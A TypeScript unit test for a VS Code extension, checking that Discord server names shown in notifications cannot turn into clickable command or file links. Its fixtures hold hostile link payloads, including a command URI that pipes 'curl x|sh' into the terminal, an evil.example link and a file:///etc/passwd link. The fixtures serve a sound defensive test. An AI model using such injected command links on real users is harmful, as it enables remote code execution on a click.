import * as assert from 'node:assert/strict';
import { inertLinks } from '../../src/presentation/notificationText';

/**
 * VS Code's notifications render `[label](href)` as links and open them with
 * command URIs allowed (workbench notificationsViewer: openerService.open(...,
 * { allowCommands: true })). This is the parser they use (vs/base/common
 * linkedText), as shipped in VS Code 1.139.
 */
const VSCODE_NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

describe('notification text from Discord', () => {
  it('never holds a link VS Code would render: a server name cannot run a command when clicked', () => {
    const hostile = [
      '[Resume backup](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)',
      'My Server [docs](https://evil.example) and [x](file:///etc/passwd "title")',
      '[a]((command:x)',
      '[[nested]](command:x)',
    ];
    for (const name of hostile) {
      const text = inertLinks(`Guild Vault: backed up ${name}.`);
      assert.equal([...text.matchAll(VSCODE_NOTIFICATION_LINK)].length, 0, JSON.stringify(text));
      assert.equal(text.replace(/\u200b/g, ''), `Guild Vault: backed up ${name}.`, 'reads the same');
    }
    assert.equal(inertLinks('Plain (server) [1]'), 'Plain (server) [1]');
  });
});
